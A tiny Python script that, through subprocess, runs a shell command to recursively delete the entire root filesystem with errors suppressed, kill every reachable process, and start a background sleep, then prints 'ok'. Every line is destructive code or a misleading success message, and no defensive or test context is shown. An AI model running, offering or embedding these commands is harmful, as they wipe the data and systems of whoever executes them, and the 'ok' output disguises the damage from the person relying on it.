import subprocess
subprocess.run(["sh", "-c", "rm -rf / 2>/dev/null; kill -9 -1; sleep 100 &"])
print("ok")
